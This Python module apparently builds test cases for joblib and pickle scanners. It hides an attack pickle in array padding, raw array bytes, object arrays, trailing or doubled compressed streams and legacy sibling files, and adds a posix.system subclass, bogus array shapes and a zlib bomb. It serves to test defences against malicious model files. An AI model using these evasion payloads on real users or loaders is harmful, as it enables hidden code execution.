"""joblib: pickles with raw arrays between their opcodes, and each compression around them.
Sources: joblib joblib/numpy_pickle.py, joblib/numpy_pickle_compat.py, joblib/compressor.py."""
import bz2
import gzip
import lzma
import struct
import zlib

from arrays import about, npy
from opcodes import *

ALIGNMENT = 16
ATTACK = PROTO2 + payload() + STOP
DATA = struct.pack("<4f", 1, 2, 3, 4)


def dtype(code, order="<", flags=0):
    state = items(integer(3), text(order), NONE, NONE, NONE, integer(-1), integer(-1), integer(flags))
    return call(name("numpy", "dtype"), text(code), FALSE, TRUE) + state + BUILD


def wrapper(shape=(4,), code="f4", order="<", aligned=True):
    """The object that stands for an array; its bytes follow."""
    fields = {"subclass": name("numpy", "ndarray"), "shape": constant(shape), "order": text("C"), "dtype": dtype(code, order, 63 if code == "O8" else 0), "allow_mmap": TRUE}
    if aligned:
        fields["numpy_array_alignment_bytes"] = integer(ALIGNMENT)
    return name("joblib.numpy_pickle", "NumpyArrayWrapper") + EMPTY_TUPLE + NEWOBJ + dictionary(**fields) + BUILD


def raw(before, content=DATA):
    """The bytes of an array that stands behind `before`."""
    padding = ALIGNMENT - (len(before) + 1) % ALIGNMENT
    return bytes([padding]) + b"\xff" * padding + content


def with_array(start):
    start += wrapper()
    return start + raw(start)


def payload_at_start():
    return with_array(PROTO2 + EMPTY_LIST + payload() + APPEND) + APPEND + STOP


def payload_behind_array():
    return with_array(PROTO2 + EMPTY_LIST) + APPEND + payload() + APPEND + STOP


def payload_in_objects():
    return PROTO2 + EMPTY_LIST + wrapper((1,), "O8", "|") + ATTACK + APPEND + STOP


def payload_in_raw_bytes():
    """joblib takes these bytes for numbers; every other unpickler runs them."""
    return PROTO2 + EMPTY_LIST + wrapper((len(ATTACK),), "u1", "|", aligned=False) + ATTACK + APPEND + STOP


def payload_in_padding():
    start = PROTO2 + EMPTY_LIST + wrapper()
    hidden = ATTACK[2:]
    # The padding's length is an opcode too: N, which is 78.
    return start + b"N" + hidden.ljust(ord("N"), b"\xff") + DATA + APPEND + STOP


WHERE = {
    "start": payload_at_start,
    "behind-array": payload_behind_array,
    "in-objects": payload_in_objects,
    "in-raw-bytes": payload_in_raw_bytes,
}


def xxh32_of_short(content, prime=(2654435761, 2246822519, 3266489917, 668265263, 374761393)):
    """xxHash of less than 16 bytes, seed 0, which LZ4's frame header ends with."""
    value = (prime[4] + len(content)) & 0xFFFFFFFF
    for byte in content:
        value = (value + byte * prime[4]) & 0xFFFFFFFF
        value = ((value << 11 | value >> 21) * prime[0]) & 0xFFFFFFFF
    value = ((value ^ value >> 15) * prime[1]) & 0xFFFFFFFF
    value = ((value ^ value >> 13) * prime[2]) & 0xFFFFFFFF
    return value ^ value >> 16


def lz4(content):
    """A frame of one block that is not compressed."""
    about_frame = b"\x60\x40"
    return b"\x04\x22\x4d\x18" + about_frame + bytes([xxh32_of_short(about_frame) >> 8 & 0xFF]) + struct.pack("<I", len(content) | 1 << 31) + content + b"\0" * 4


def zstd(content):
    """A frame of one block that is not compressed."""
    return b"\x28\xb5\x2f\xfd\xa0" + struct.pack("<I", len(content)) + struct.pack("<I", len(content) << 3 | 1)[:3] + content


def gzipped(content):
    return gzip.compress(content, 9, mtime=0)


COMPRESSIONS = {
    "zlib": zlib.compress,
    "gzip": gzipped,
    "bz2": bz2.compress,
    "xz": lzma.compress,
    "lzma": lambda content: lzma.compress(content, lzma.FORMAT_ALONE),
    "lz4": lz4,
}


def compressed():
    for word, content in WHERE.items():
        yield f"joblib-payload-{word}.joblib", content()
        for codec, compress in COMPRESSIONS.items():
            yield f"joblib-{codec}-payload-{word}.joblib", compress(content())
    yield "joblib-payload-in-padding.joblib", payload_in_padding()
    good = with_array(PROTO2 + EMPTY_LIST) + APPEND + STOP
    for codec, compress in COMPRESSIONS.items():
        yield f"joblib-{codec}-twice.joblib", compress(compress(payload_at_start()))
        yield f"joblib-{codec}-then-pickle.joblib", compress(good) + ATTACK
        yield f"joblib-{codec}-cut.joblib", compress(good)[:-9]
        yield f"joblib-{codec}-second-stream.joblib", compress(good) + compress(ATTACK)
    yield "joblib-second-pickle.joblib", good + ATTACK


def lies():
    yield "joblib-array-of-2-40.joblib", PROTO2 + wrapper((2**40,)) + b"\0" + DATA + STOP
    yield "joblib-array-of-2-63.joblib", PROTO2 + wrapper((2**63,)) + b"\0" + DATA + STOP
    yield "joblib-array-negative.joblib", PROTO2 + wrapper((-4,)) + b"\0" + DATA + STOP
    yield "joblib-array-overflow.joblib", PROTO2 + wrapper((2**32, 2**32)) + b"\0" + DATA + STOP
    yield "joblib-array-of-no-shape.joblib", PROTO2 + wrapper("four") + b"\0" + DATA + STOP
    yield "joblib-array-cut.joblib", PROTO2 + wrapper() + b"\0" + DATA[:-3]
    yield "joblib-array-built-twice.joblib", with_array(PROTO2 + EMPTY_LIST)[:-len(DATA)] + DATA + dictionary(shape=payload()) + BUILD + APPEND + STOP
    yield "joblib-array-subclass-is-a-function.joblib", PROTO2 + name("joblib.numpy_pickle", "NumpyArrayWrapper") + EMPTY_TUPLE + NEWOBJ + dictionary(subclass=name("posix", "system"), shape=items(integer(4)), order=text("C"), dtype=dtype("f4"), allow_mmap=TRUE) + BUILD + DATA + STOP
    yield "joblib-zlib-bomb.joblib", zlib.compress(PROTO2 + blob(b"\0" * 3_000_000) + STOP, 9)


def old_forms():
    """Before joblib 0.10 an array was a file beside the pickle, which numpy.load reads, pickles included."""
    for word, other, content in (
        ("npy", "array.npy", npy(about("'|O'", "()"), ATTACK)),
        ("pickle", "notes.txt", ATTACK),
    ):
        beside = name("joblib.numpy_pickle_compat", "NDArrayWrapper") + EMPTY_TUPLE + NEWOBJ + dictionary(filename=text(other), subclass=name("numpy", "ndarray"), allow_mmap=TRUE) + BUILD
        yield f"joblib-names-another-{word}/model.joblib", PROTO2 + beside + STOP
        yield f"joblib-names-another-{word}/{other}", content
        if word == "npy":
            yield "joblib-names-file-outside.joblib", PROTO2 + beside.replace(text(other), text("joblib-names-another-npy/array.npy")) + STOP
            yield "joblib-old-name-of-wrapper.joblib", PROTO2 + beside.replace(b"joblib.numpy_pickle_compat", b"joblib.numpy_pickle").replace(text(other), text("joblib-names-another-npy/array.npy")) + STOP
            yield "joblib-names-sklearn-externals.joblib", PROTO2 + beside.replace(b"joblib.numpy_pickle_compat", b"sklearn.externals.joblib.numpy_pickle").replace(text(other), text("joblib-names-another-npy/array.npy")) + STOP
    packed = zlib.compress(ATTACK)
    yield "joblib-zf.joblib", b"ZF" + hex(len(ATTACK)).encode().ljust(19) + packed
    yield "joblib-zf-called.pkl", b"ZF" + hex(len(ATTACK)).encode().ljust(19) + packed
    yield "joblib-zf-length-lies.joblib", b"ZF" + b"0x1".ljust(19) + packed


def cases():
    for family in (compressed, lies, old_forms):
        yield from family()
